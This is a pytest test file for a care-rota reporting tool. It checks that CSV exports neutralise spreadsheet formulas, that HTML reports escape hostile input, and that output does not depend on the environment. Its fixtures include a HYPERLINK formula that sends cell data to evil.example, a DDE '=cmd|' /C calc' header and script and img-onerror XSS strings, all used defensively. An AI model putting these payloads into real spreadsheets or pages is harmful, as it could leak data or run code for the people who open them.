"""Outputs that can be relied on: CSVs safe to open in a spreadsheet, pages that show hostile input as
text, and the same bytes from the same input whatever the process's hash seed, time zone or locale."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest

from carerota import report
from carerota.load import load_rota
from carerota.output import NUMBER, spreadsheet_safe
from carerota.postcodes import import_table
from conftest import run

ROOT = Path(__file__).resolve().parent.parent
EX = ROOT / "examples"
AS_OF = ("--as-of", "2026-11-23")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"pay")'
SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
AMP = "C&amp;1"
WORKERS = (HYPERLINK, "@SUM(1+1)", "+44 7700 900123", "-12.5", SCRIPT, "Zoë", "W&amp;2")
CLIENTS = (IMG, AMP, "-C3", "=C4", "C5", "C6", "C7")
TRIGGERS = "=+-@\t\r"


def write_rota(path: Path, rate: float = 5.0) -> Path:
    """One short visit a day for each hostile worker, at a hostile client, paid below the floor."""
    with path.open("w", newline="", encoding="utf-8") as fh:
        out = csv.writer(fh, lineterminator="\n")
        out.writerow(["visit_id", "worker_id", "client_id", "start", "end", "lat", "lon", "hourly_rate"])
        for i, (worker, client) in enumerate(zip(WORKERS, CLIENTS)):
            for day in (2, 3):
                out.writerow([f"v{i}{day}", worker, client, f"2026-11-0{day} 08:{i:02d}", f"2026-11-0{day} 08:{20 + i}",
                              53.80 + i / 100, -1.55, rate])
    return path


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_spreadsheet_safe(text: str) -> None:
    """No cell a spreadsheet would run: each cell starting with a trigger is a number; no lone CR."""
    assert "\r" not in text.replace("\r\n", "")
    risky = [c for row in cells(text) for c in row if c[:1] in tuple(TRIGGERS) and not re.fullmatch(NUMBER, c)]
    assert risky == []


def column(text: str, name: str) -> list[str]:
    return [row[name] for row in csv.DictReader(io.StringIO(text))]


# --- the function --------------------------------------------------------------------------------

@pytest.mark.parametrize("cell", ["=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "-", "=café", "+ 12"])
def test_each_trigger_is_neutralised(cell):
    out = spreadsheet_safe(pd.DataFrame({"id": [cell, "W1"]}))
    assert out["id"].tolist() == ["'" + cell, "W1"]


def test_a_carriage_return_cannot_start_a_row():
    frame = pd.DataFrame({"id": ["\r=1+1", "W\r=2+2", "W\r\nX", "W\nX"], "n": [1, 2, 3, 4]})
    out = spreadsheet_safe(frame)
    assert out["id"].tolist() == ["'\n=1+1", "W\n=2+2", "W\nX", "W\nX"]
    assert [row[1] for row in cells(report.csv_text(frame))[1:]] == ["1", "2", "3", "4"]  # four rows, not six
    unguarded = cells(frame.to_csv(index=False, lineterminator="\n"))
    assert ["=2+2", "2"] in unguarded  # what pandas alone writes: the formula is a row's first cell


def test_numbers_are_left_alone():
    frame = pd.DataFrame({
        "money": [-12.5, 0.0, -0.01, np.nan, -np.inf],
        "count": [-3, 0, 1, 2, 3],
        "text": ["-12.5", "+3", "-1e-05", ".5", "-inf"],
        "mixed": pd.Series([-1.5, "-2", 3, None, "=x"], dtype=object),
        "yes": [True, False, True, False, True],
    })
    out = spreadsheet_safe(frame)
    assert out.dtypes.tolist() == frame.dtypes.tolist()
    for name in ("money", "count", "text", "yes"):
        assert out[name].equals(frame[name]), name
    assert out["mixed"].tolist()[:3] == [-1.5, "-2", 3] and out["mixed"].iloc[3] is None
    assert out["mixed"].iloc[4] == "'=x"
    assert report.csv_text(frame).splitlines()[1] == "-12.5,-3,-12.5,-1.5,True"


def test_empty_and_missing_cells_stay_empty():
    frame = pd.DataFrame({"s": pd.Series(["", None, "=x"], dtype="str"),
                          "o": pd.Series(["", None, np.nan], dtype=object),
                          "na": pd.Series([pd.NA, "", "@x"], dtype="string")})
    out = spreadsheet_safe(frame)
    assert out["s"].iloc[0] == "" and pd.isna(out["s"].iloc[1]) and out["s"].iloc[2] == "'=x"
    assert out["na"].iloc[0] is pd.NA and out["na"].tolist()[1:] == ["", "'@x"]
    assert report.csv_text(frame).splitlines()[1:] == [",,", ",,", "'=x,,'@x"]


def test_already_quoted_text_is_not_quoted_again():
    frame = pd.DataFrame({"id": ["'=x", "=x", "x'"]})
    once = spreadsheet_safe(frame)
    assert once["id"].tolist() == ["'=x", "'=x", "x'"]
    assert spreadsheet_safe(once).equals(once)


def test_unicode():
    frame = pd.DataFrame({"id": ["=Zoë", "@Ωmega", "Zoë", "＝1+1", "−12", "é=1", "😀=1", "-😀"]})
    assert spreadsheet_safe(frame)["id"].tolist() == [
        "'=Zoë", "'@Ωmega", "Zoë", "＝1+1", "−12", "é=1", "😀=1", "'-😀"]


def test_nothing_to_change_is_not_copied_and_the_input_is_not_changed():
    clean = pd.DataFrame({"id": ["W1", "W2"], "x": [-1.0, 2.0]})
    assert spreadsheet_safe(clean) is clean
    hostile = pd.DataFrame({"id": ["=W1", "W2"]})
    assert spreadsheet_safe(hostile)["id"].iloc[0] == "'=W1" and hostile["id"].iloc[0] == "=W1"


def test_plan_table_keeps_its_numbers():
    comparison = pd.DataFrame({"metric": ["total_shortfall", "travel_hours", "margin"],
                               "before": [12.345, 3.0, -12.5], "after": [0.0, -0.5, np.nan]})
    text = report.plan_to_csv(SimpleNamespace(comparison=comparison))
    assert text.splitlines() == ["metric,before,after", "total_shortfall,12.35,0.0", "travel_hours,3.0,-0.5",
                                 "margin,-12.5,"]


# --- every CSV the commands write ----------------------------------------------------------------

def test_audit_csv(tmp_path):
    result = run("audit", write_rota(tmp_path / "rota.csv"), *AS_OF, "--format", "csv", "-q")
    assert result.exit_code == 1, result.output
    assert_spreadsheet_safe(result.stdout)
    assert sorted(column(result.stdout, "worker_id")) == sorted(
        ["'" + HYPERLINK, "'@SUM(1+1)", "'+44 7700 900123", "-12.5", SCRIPT, "Zoë", "W&amp;2"])


@pytest.fixture
def hostile_files(tmp_path, monkeypatch):
    """Rotas whose file names are formulas, in the current folder so that the names are shown bare."""
    monkeypatch.chdir(tmp_path)
    write_rota(tmp_path / "=rota.csv")
    write_rota(tmp_path / "@rota.csv", rate=30)
    (tmp_path / "+bad.csv").write_text("worker_id,client_id,start,end\nW1,C1,not a time,2026-11-02 08:30\n")
    return tmp_path


def test_batch_csv(hostile_files):
    result = run("batch", "=rota.csv", "@rota.csv", "+bad.csv", *AS_OF, "--format", "csv", "--jobs", "1", "-q")
    assert result.exit_code == 2, result.output
    assert_spreadsheet_safe(result.stdout)
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["file"] for r in rows] == ["'=rota.csv", "'@rota.csv", "'+bad.csv"]
    assert rows[2]["error"].startswith("'+bad.csv, row 2")
    assert float(rows[0]["total_shortfall"]) > 0 and rows[1]["call_monitoring"] == "false"


def test_tender_csv(hostile_files):
    (hostile_files / "bids.csv").write_text("bid_id,price_per_hour,rota\n=1+1,10.00,=rota.csv\n-5,99,@rota.csv\n")
    result = run("tender", "bids.csv", "--format", "csv", "-q")
    assert result.exit_code == 1, result.output
    assert_spreadsheet_safe(result.stdout)
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [(r["bid_id"], r["rota"], r["verdict"]) for r in rows] == [
        ("'=1+1", "'=rota.csv", "below cost"), ("-5", "'@rota.csv", "sustainable")]
    assert float(rows[0]["margin"]) < 0 and rows[0]["margin"].startswith("-")  # a number keeps its sign


def test_plan_csv_and_the_planned_rota(tmp_path):
    rota = write_rota(tmp_path / "rota.csv")
    planned = tmp_path / "planned.csv"
    result = run("plan", rota, "--format", "csv", "--solution-limit", "20", "--seed", "1", "-o", planned, "-q")
    assert result.exit_code in (0, 1), result.output
    assert_spreadsheet_safe(result.stdout)
    assert column(result.stdout, "metric")[0] == "visits" and float(column(result.stdout, "before")[0]) == 14
    # The planned rota keeps the rota's own ids, so that it reads back and matches the other files.
    back = load_rota(planned).visits
    assert set(back["worker_id"]) <= set(WORKERS) and set(back["client_id"]) == set(CLIENTS)
    assert HYPERLINK in set(back["worker_id"])


def test_columns_csv(write):
    path = write("r.csv", "worker_id,client_id,start,end,=cmd|' /C calc'!A0",
                 "@W1,C1,2026-11-02 08:00,2026-11-02 08:30,-x")
    result = run("columns", path, "--format", "csv")
    assert_spreadsheet_safe(result.stdout)
    rows = {r["position"]: r for r in csv.DictReader(io.StringIO(result.stdout))}
    assert rows["1"]["example"] == "'@W1" and rows["5"]["header"] == "'=cmd|' /C calc'!A0"
    assert rows["5"]["example"] == "'-x"


def test_postcodes_csv(tmp_path, monkeypatch):
    table = tmp_path / "=pc.npz"
    import_table(ROOT / "tests" / "data" / "postcodes" / "onspd_sample.csv", table)
    monkeypatch.chdir(tmp_path)
    found = run("postcodes", "lookup", "=1+1", "AB11 6EW", "--postcodes", "=pc.npz", "--format", "csv")
    assert_spreadsheet_safe(found.stdout)
    rows = list(csv.DictReader(io.StringIO(found.stdout)))
    assert rows[0]["input"] == "'=1+1" and rows[1]["lat"] == "57.142432" and rows[1]["lon"] == "-2.104118"
    info = run("postcodes", "info", "--postcodes", "=pc.npz", "--format", "csv")
    assert info.exit_code == 0 and column(info.stdout, "path") == ["'=pc.npz"]


# --- the HTML pages ------------------------------------------------------------------------------

class Page(HTMLParser):
    """Every tag, attribute value and piece of text of a page, as a browser would read them."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.values: list[str] = []
        self.texts: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.values += [v for _, v in attrs if v is not None]

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.texts.append(data)


def assert_shown_as_text(page: str, *inputs: str) -> Page:
    """Each input is on the page as text (or an attribute value), and none of its markup is."""
    parsed = Page(page)
    assert not {"script", "img", "b"} & set(parsed.tags)
    assert "<script" not in page and "<img" not in page and "<b>" not in page
    shown = "\n".join(parsed.texts + parsed.values)
    for text in inputs:
        assert text in shown, text
    return parsed


def test_audit_page(tmp_path):
    rota = write_rota(tmp_path / "a<b>x.csv")
    out = tmp_path / "report.html"
    result = run("audit", rota, "--html", out, *AS_OF, "-q")
    assert result.exit_code == 1, result.output
    page = out.read_text(encoding="utf-8")
    parsed = assert_shown_as_text(page, SCRIPT, IMG, AMP, "W&amp;2", HYPERLINK, "a<b>x.csv")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "C&amp;amp;1" in page
    assert f"carerota audit · {rota}" in parsed.texts  # the <title>
    assert SCRIPT in parsed.values  # a chart bar's data-id


def test_batch_page(hostile_files):
    write_rota(hostile_files / "a<b>x.csv")
    (hostile_files / "c&amp;d.csv").write_text(f"worker_id,client_id,start,end\nW1,C1,{SCRIPT},2026-11-02 08:30\n")
    result = run("batch", "a<b>x.csv", "c&amp;d.csv", *AS_OF, "--html", "b.html", "--jobs", "1", "-q")
    assert result.exit_code == 2, result.output
    page = (hostile_files / "b.html").read_text(encoding="utf-8")
    parsed = assert_shown_as_text(page, "a<b>x.csv", "c&amp;d.csv", SCRIPT)
    assert "c&amp;amp;d.csv" in page
    assert any(SCRIPT in t and t.startswith("c&amp;d.csv") for t in parsed.texts)  # the error, as text


def test_tender_page(hostile_files):
    (hostile_files / "<b>bids.csv").write_text(f'bid_id,price_per_hour,rota\n"{SCRIPT}",10,=rota.csv\n'
                                               f'"{IMG.replace(chr(34), chr(34) * 2)}",30,a<b>.csv\n')
    write_rota(hostile_files / "a<b>.csv")
    result = run("tender", "<b>bids.csv", "--html", "t.html", "-q")
    assert result.exit_code == 1, result.output
    page = (hostile_files / "t.html").read_text(encoding="utf-8")
    parsed = assert_shown_as_text(page, SCRIPT, IMG, "Tender check: <b>bids.csv", "a<b>.csv")
    assert IMG in parsed.values  # the bar's data-id, an attribute that the quote did not close


# --- the same bytes, whatever the environment ----------------------------------------------------

ENVIRONMENTS = ({"PYTHONHASHSEED": "0", "TZ": "UTC", "LC_ALL": "C"},
                {"PYTHONHASHSEED": "1234", "TZ": "America/New_York", "LC_ALL": "C.UTF-8"})


def outputs(folder: Path, args: list[str], env: dict) -> dict[str, bytes]:
    """JSON, CSV and HTML of one command run in a fresh process under env."""
    folder.mkdir()
    environ = {**os.environ, **env}
    for fmt in ("json", "csv"):
        done = subprocess.run([sys.executable, "-m", "carerota", *args, "--format", fmt, "-q",
                               "--output", str(folder / f"out.{fmt}"), "--html", str(folder / f"{fmt}.html")],
                              capture_output=True, env=environ, cwd=ROOT, timeout=300)
        assert done.returncode in (0, 1), done.stderr.decode()
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


@pytest.mark.parametrize("command", ["audit", "batch", "tender"])
def test_same_bytes_in_any_environment(tmp_path, command):
    rota = write_rota(tmp_path / "hostile.csv")
    tenders = EX / "tenders"
    args = {
        "audit": ["audit", str(EX / "rota.csv"), "--clients", str(EX / "clients.csv"), "--workers",
                  str(EX / "workers.csv"), *AS_OF],
        "batch": ["batch", str(EX / "rota.csv"), str(rota), *(str(tenders / f) for f in ("compact.csv", "mixed.csv",
                                                                                         "rural.csv")), *AS_OF],
        "tender": ["tender", str(tenders / "bids.csv")],
    }[command]
    first, second = (outputs(tmp_path / f"run{i}", args, env) for i, env in enumerate(ENVIRONMENTS))
    assert list(first) == ["csv.html", "json.html", "out.csv", "out.json"]
    assert first == second
    assert first["csv.html"] == first["json.html"]  # the page does not depend on the other format
    assert json.loads(first["out.json"])  # a document, not an empty file
    if command == "audit":  # the page's one date is --as-of, not the clock
        assert b'data-field="as_of" data-value="2026-11-23"' in first["csv.html"]
